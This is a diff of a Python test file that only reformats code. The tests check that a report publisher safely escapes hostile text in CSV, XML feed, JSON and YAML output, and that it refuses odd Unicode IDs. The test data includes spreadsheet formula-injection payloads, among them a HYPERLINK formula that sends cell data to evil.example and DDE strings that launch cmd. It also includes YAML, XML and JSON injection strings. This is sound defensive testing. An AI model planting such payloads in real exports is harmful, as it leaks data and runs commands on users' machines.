@@ -31,17 +31,17 @@ from tests.test_escaping import SAFE_TAGS, _mkdocs_markdown, collapse, parse, wr
 
 # What editors have typed or pasted, and what an attacker would try.
 HOSTILE_TEXTS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"點擊\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"點擊")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "---\ntitle: injected\n---",
-    "title: \"x\"\nlayout: evil",
+    'title: "x"\nlayout: evil',
     "# 標題\n\n* 列表\n\n| a | b |\n|---|---|\n| c | d |",
     "<![CDATA[ x ]]> ]]> <!-- c --> &lt; &#0; &#x1;",
     "</title></feed><entry><title>假</title>",
-    "\"}, \"injected\": {\"",
+    '"}, "injected": {"',
     "巡" * 5_000,  # a very long name (in every field: the file stays under the 1 MB limit)
     "ｔｉａｎ\u200bcheng 〇 ① ㊀ \U0001f3d7 \ufeff 𠀋 é",
     "line\u0085next",  # NEL: a line end in YAML 1.1
@@ -57,8 +57,20 @@ REJECTED_TEXTS = {
     "surrogate \ud800": "invalid Unicode character escape",  # YAML itself refuses it
     "line\u0085next": "U+0085 (control character)",
 }
-ODD_IDS = ["ｔiancheng", "tianchéng", "tian\u200bcheng", "tian cheng", "Tiancheng", "tian_cheng",
-           "tiancheng\n", "-tiancheng", "tiancheng-", "tian--cheng", "\u212aelvin", "x" * 81]
+ODD_IDS = [
+    "ｔiancheng",
+    "tianchéng",
+    "tian\u200bcheng",
+    "tian cheng",
+    "Tiancheng",
+    "tian_cheng",
+    "tiancheng\n",
+    "-tiancheng",
+    "tiancheng-",
+    "tian--cheng",
+    "\u212aelvin",
+    "x" * 81,
+]
 
 
 def published(root) -> dict[str, str]:
@@ -88,8 +100,12 @@ def assert_every_format_carries(files: dict[str, str], text: str) -> None:
     name = rows[0]["name"]
     assert name == text or (name == "'" + text and text.startswith(FORMULA_START))
     figures = list(csv.DictReader(io.StringIO(files["data/figures.csv"].removeprefix("\ufeff"))))
-    assert all(not v.startswith(FORMULA_START) for row in figures for k, v in row.items()
-               if k in ("label", "share_of", "period_label"))
+    assert all(
+        not v.startswith(FORMULA_START)
+        for row in figures
+        for k, v in row.items()
+        if k in ("label", "share_of", "period_label")
+    )
     feed = ET.fromstring(files["feed.xml"].encode("utf-8"))  # XML 1.0 parses it
     ns = {"a": "http://www.w3.org/2005/Atom"}
     titles = [e.findtext("a:title", namespaces=ns) for e in feed.findall("a:entry", ns)]
@@ -98,8 +114,9 @@ def assert_every_format_carries(files: dict[str, str], text: str) -> None:
     json.loads(files["data/bulletin.json"])
 
 
-@pytest.mark.parametrize("text", [t for t in HOSTILE_TEXTS if not _UNWANTED.search(t)],
-                         ids=lambda t: repr(t[:24]))
+@pytest.mark.parametrize(
+    "text", [t for t in HOSTILE_TEXTS if not _UNWANTED.search(t)], ids=lambda t: repr(t[:24])
+)
 def test_hostile_text_is_carried_safely_by_every_format(tmp_path, text):
     write_hostile_data(tmp_path, text)
     assert_every_format_carries(published(tmp_path), text)
@@ -118,8 +135,16 @@ def test_characters_with_no_place_in_a_report_are_refused_by_line(tmp_path, caps
         return  # a YAML syntax error stops the file at its first one
     # every text field is named, each on its own line
     fields = {re.match(r"^\S+:\d+:\d+: (\S+):", ln).group(1) for ln in errors}
-    assert {"title", "issuer", "projects[0].name", "figures[0].quote", "regions[0].name",
-            "measures[0].paragraphs[0]", "period.label", "source.parts[0]"} <= fields
+    assert {
+        "title",
+        "issuer",
+        "projects[0].name",
+        "figures[0].quote",
+        "regions[0].name",
+        "measures[0].paragraphs[0]",
+        "period.label",
+        "source.parts[0]",
+    } <= fields
 
 
 @pytest.mark.parametrize("odd", ODD_IDS, ids=repr)
@@ -136,8 +161,11 @@ def test_odd_unicode_in_ids_is_refused(tmp_path, capsys, odd):
     assert re.search(r"2005-q1\.yaml:\d+:\d+: projects\[0\]\.id: ", err), err
 
 
-@settings(max_examples=60, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=60,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 @given(st.text(st.characters(codec=None), min_size=1, max_size=30).filter(lambda s: s.strip()))
 def test_any_text_in_every_field_is_refused_or_carried_by_every_format(tmp_path_factory, text):
     root = tmp_path_factory.mktemp("formats")
@@ -145,8 +173,9 @@ def test_any_text_in_every_field_is_refused_or_carried_by_every_format(tmp_path_
     bulletin, problems = load_bulletin(Paths(root))
     if _UNWANTED.search(text):
         assert bulletin is None
-        assert problems and all(re.match(r"^data/\S+\.yaml:\d+:\d+: \S", p.text())
-                                for p in problems)
+        assert problems and all(
+            re.match(r"^data/\S+\.yaml:\d+:\d+: \S", p.text()) for p in problems
+        )
         return
     assert bulletin is not None, [p.text() for p in problems]
     assert_every_format_carries(published(root), text)
